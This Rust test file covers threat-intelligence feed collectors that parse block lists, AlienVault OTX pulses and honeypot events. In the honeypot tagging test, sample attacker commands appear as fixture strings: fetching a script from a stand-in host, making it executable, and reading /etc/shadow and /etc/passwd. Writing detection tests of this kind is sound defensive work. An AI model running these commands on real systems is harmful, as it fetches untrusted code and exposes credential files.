use sentinelforge::collectors::alienvault::{
    base_tags, convert_tlp, convert_type, is_configured, pulses_to_indicators, OtxIndicator,
    OtxPulse,
};
use sentinelforge::collectors::emerging_threats::{
    botnet_tags, compromised_tags, parse_ip_list, parse_line,
};
use sentinelforge::collectors::honeytrap::{
    convert_severity, event_lines, event_tags, events_to_indicators, reported_to_indicators,
    HoneytrapCommand, HoneytrapCredentials, HoneytrapEvent, HoneytrapSource,
};
use sentinelforge::collectors::{FeedCollector, FeedResult};
use sentinelforge::models::{CreateIndicatorRequest, IocType, Severity, Tlp};

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

fn event(ip: &str, severity: &str) -> HoneytrapEvent {
    HoneytrapEvent {
        session_id: "s".to_string(),
        protocol: "ssh".to_string(),
        category: "auth".to_string(),
        severity: severity.to_string(),
        source: HoneytrapSource { ip: ip.to_string(), port: 22 },
        credentials: None,
        command: None,
    }
}

struct Static;

impl FeedCollector for Static {
    fn name(&self) -> &'static str {
        "static"
    }

    fn fetch(&self) -> Result<Vec<CreateIndicatorRequest>, String> {
        Ok(parse_ip_list("1.2.3.4\n", "static", &vec![]))
    }
}

#[test]
fn collector_is_configured_by_default() {
    let c = Static;
    assert!(c.is_configured());
    assert_eq!(c.name(), "static");
    let result = FeedResult {
        source: c.name().to_string(),
        indicators: c.fetch().unwrap(),
        errors: vec![],
    };
    assert_eq!(result.indicators.len(), 1);
    assert_eq!(result.indicators[0].value, "1.2.3.4");
}

#[test]
fn block_list_lines() {
    let line = |s: &str| parse_line(&s.chars().collect());
    assert_eq!(line("1.2.3.4"), Some("1.2.3.4".to_string()));
    assert_eq!(line("  1.2.3.4\t# seen 2024  "), Some("1.2.3.4".to_string()));
    assert_eq!(line("1.2.3.4,extra"), None);
    assert_eq!(line("# 1.2.3.4"), None);
    assert_eq!(line(""), None);
    assert_eq!(line("   "), None);
    assert_eq!(line("::1"), None);
    assert_eq!(line("example.com"), None);
    assert_eq!(line("999.1.1.1"), None);
}

#[test]
fn block_list_is_parsed_in_order() {
    let text = "# Feodo Tracker\r\n\r\n1.2.3.4\r\n5.6.7.8 2024-01-01\nnot-an-ip\n::1\n 9.9.9.9";
    let tags = botnet_tags();
    let got = parse_ip_list(text, "feodo_tracker", &tags);
    let values: Vec<&str> = got.iter().map(|r| r.value.as_str()).collect();
    assert_eq!(values, vec!["1.2.3.4", "5.6.7.8", "9.9.9.9"]);
    for r in got.iter() {
        assert_eq!(r.ioc_type, Some(IocType::Ip));
        assert_eq!(r.severity, Some(Severity::High));
        assert_eq!(r.confidence, Some(80));
        assert_eq!(r.tlp, Some(Tlp::White));
        assert_eq!(r.tags, Some(strings(&["botnet", "banking_trojan"])));
        assert_eq!(r.source, Some("feodo_tracker".to_string()));
        assert_eq!(r.expiration_days, Some(30));
    }
    assert_eq!(compromised_tags(), strings(&["compromised", "et_rules"]));
    assert!(parse_ip_list("", "s", &tags).is_empty());
    assert!(parse_ip_list("\n\n", "s", &tags).is_empty());
}

#[test]
fn honeytrap_event_lines_skip_blank_lines() {
    assert_eq!(
        event_lines("{\"a\":1}\r\n\n   \n {\"b\":2} \n{\"c\":3}"),
        strings(&["{\"a\":1}", " {\"b\":2} ", "{\"c\":3}"])
    );
    assert!(event_lines("").is_empty());
    assert_eq!(event_lines("x\r"), strings(&["x\r"]));
}

#[test]
fn honeytrap_severity_names() {
    assert_eq!(convert_severity("critical"), Severity::Critical);
    assert_eq!(convert_severity("high"), Severity::High);
    assert_eq!(convert_severity("medium"), Severity::Medium);
    assert_eq!(convert_severity("low"), Severity::Low);
    assert_eq!(convert_severity("HIGH"), Severity::Medium);
    assert_eq!(convert_severity(""), Severity::Medium);
}

#[test]
fn honeytrap_tags_tell_what_was_tried() {
    let mut e = event("1.2.3.4", "high");
    assert_eq!(event_tags(&e), strings(&["honeypot:ssh", "category:auth"]));
    e.credentials =
        Some(HoneytrapCredentials { username: "root".to_string(), password: "x".to_string() });
    e.command = Some(HoneytrapCommand {
        command: "WGET http://x/a.sh; CHMOD +X a.sh; cat /etc/shadow".to_string(),
    });
    assert_eq!(
        event_tags(&e),
        strings(&[
            "honeypot:ssh",
            "category:auth",
            "has_credentials",
            "targets_admin",
            "executed_commands",
            "download_attempt",
            "made_executable",
            "credential_access",
        ])
    );
    e.credentials =
        Some(HoneytrapCredentials { username: "Admin".to_string(), password: "x".to_string() });
    e.command = Some(HoneytrapCommand { command: "chmod 755 a.sh".to_string() });
    assert_eq!(
        event_tags(&e),
        strings(&["honeypot:ssh", "category:auth", "has_credentials", "executed_commands"])
    );
    e.credentials =
        Some(HoneytrapCredentials { username: "admin".to_string(), password: "x".to_string() });
    e.command = Some(HoneytrapCommand { command: "curl example; cat /etc/passwd".to_string() });
    assert_eq!(
        event_tags(&e),
        strings(&[
            "honeypot:ssh",
            "category:auth",
            "has_credentials",
            "targets_admin",
            "executed_commands",
            "download_attempt",
            "credential_access",
        ])
    );
}

#[test]
fn honeytrap_log_keeps_the_first_event_of_each_address() {
    let mut second = event("1.2.3.4", "critical");
    second.protocol = "telnet".to_string();
    let events = vec![event("1.2.3.4", "low"), event("5.6.7.8", "weird"), second, event("9.9.9.9", "critical")];
    let got = events_to_indicators(&events);
    let values: Vec<&str> = got.iter().map(|r| r.value.as_str()).collect();
    assert_eq!(values, vec!["1.2.3.4", "5.6.7.8", "9.9.9.9"]);
    assert_eq!(got[0].severity, Some(Severity::Low));
    assert_eq!(got[1].severity, Some(Severity::Medium));
    assert_eq!(got[2].severity, Some(Severity::Critical));
    assert_eq!(got[0].tags, Some(strings(&["honeypot:ssh", "category:auth"])));
    for r in got.iter() {
        assert_eq!(r.ioc_type, Some(IocType::Ip));
        assert_eq!(r.confidence, Some(90));
        assert_eq!(r.tlp, Some(Tlp::Green));
        assert_eq!(r.source, Some("honeytrap".to_string()));
        assert_eq!(r.expiration_days, Some(30));
    }
    assert!(events_to_indicators(&vec![]).is_empty());
}

#[test]
fn honeytrap_reports_keep_every_event() {
    let mut loud = event("1.2.3.4", "low");
    loud.command = Some(HoneytrapCommand { command: "wget x".to_string() });
    let events = vec![loud, event("1.2.3.4", "critical")];
    let got = reported_to_indicators(&events);
    assert_eq!(got.len(), 2);
    for r in got.iter() {
        assert_eq!(r.value, "1.2.3.4");
        assert_eq!(r.severity, Some(Severity::High));
        assert_eq!(r.tags, Some(strings(&["honeypot:ssh", "category:auth"])));
        assert_eq!(r.confidence, Some(90));
        assert_eq!(r.tlp, Some(Tlp::Green));
    }
}

#[test]
fn otx_types_and_labels() {
    assert_eq!(convert_type("IPv4"), Some(IocType::Ip));
    assert_eq!(convert_type("IPv6"), Some(IocType::Ip));
    assert_eq!(convert_type("domain"), Some(IocType::Domain));
    assert_eq!(convert_type("hostname"), Some(IocType::Domain));
    assert_eq!(convert_type("URL"), Some(IocType::Url));
    assert_eq!(convert_type("URI"), Some(IocType::Url));
    assert_eq!(convert_type("FileHash-MD5"), Some(IocType::Hash));
    assert_eq!(convert_type("FileHash-SHA1"), Some(IocType::Hash));
    assert_eq!(convert_type("FileHash-SHA256"), Some(IocType::Hash));
    assert_eq!(convert_type("email"), Some(IocType::Email));
    assert_eq!(convert_type("CVE"), Some(IocType::Cve));
    assert_eq!(convert_type("ipv4"), None);
    assert_eq!(convert_type("Mutex"), None);
    assert_eq!(convert_tlp(Some("white")), Tlp::White);
    assert_eq!(convert_tlp(Some("green")), Tlp::Green);
    assert_eq!(convert_tlp(Some("amber")), Tlp::Amber);
    assert_eq!(convert_tlp(Some("red")), Tlp::Red);
    assert_eq!(convert_tlp(Some("RED")), Tlp::Amber);
    assert_eq!(convert_tlp(None), Tlp::Amber);
    assert!(is_configured("key"));
    assert!(!is_configured(""));
}

#[test]
fn otx_pulses_become_requests() {
    let pulse = OtxPulse {
        id: "p1".to_string(),
        name: "Campaign".to_string(),
        description: None,
        tags: strings(&["apt"]),
        indicators: vec![
            OtxIndicator {
                indicator: "1.2.3.4".to_string(),
                indicator_type: "IPv4".to_string(),
                description: None,
            },
            OtxIndicator {
                indicator: "mutex-1".to_string(),
                indicator_type: "Mutex".to_string(),
                description: None,
            },
            OtxIndicator {
                indicator: "bad.example".to_string(),
                indicator_type: "hostname".to_string(),
                description: Some("c2".to_string()),
            },
        ],
        tlp: Some("red".to_string()),
        adversary: Some("Bear".to_string()),
        malware_families: strings(&["FamA", "FamB"]),
    };
    let plain = OtxPulse {
        id: "p2".to_string(),
        name: "Other".to_string(),
        description: None,
        tags: vec![],
        indicators: vec![OtxIndicator {
            indicator: "CVE-2021-44228".to_string(),
            indicator_type: "CVE".to_string(),
            description: None,
        }],
        tlp: None,
        adversary: None,
        malware_families: vec![],
    };
    assert_eq!(
        base_tags(&pulse),
        strings(&["apt", "pulse:p1", "adversary:Bear", "malware:FamA", "malware:FamB"])
    );
    assert_eq!(base_tags(&plain), strings(&["pulse:p2"]));
    let got = pulses_to_indicators(&vec![pulse, plain]);
    assert_eq!(got.len(), 3);
    assert_eq!(got[0].value, "1.2.3.4");
    assert_eq!(got[0].ioc_type, Some(IocType::Ip));
    assert_eq!(got[0].tlp, Some(Tlp::Red));
    assert_eq!(
        got[0].tags,
        Some(strings(&[
            "apt",
            "pulse:p1",
            "adversary:Bear",
            "malware:FamA",
            "malware:FamB",
            "otx_type:IPv4",
        ]))
    );
    assert_eq!(got[1].value, "bad.example");
    assert_eq!(got[1].ioc_type, Some(IocType::Domain));
    assert_eq!(got[2].value, "CVE-2021-44228");
    assert_eq!(got[2].tlp, Some(Tlp::Amber));
    assert_eq!(got[2].tags, Some(strings(&["pulse:p2", "otx_type:CVE"])));
    for r in got.iter() {
        assert_eq!(r.severity, Some(Severity::Medium));
        assert_eq!(r.confidence, Some(70));
        assert_eq!(r.source, Some("alienvault_otx".to_string()));
        assert_eq!(r.expiration_days, Some(90));
    }
    assert!(pulses_to_indicators(&vec![]).is_empty());
}
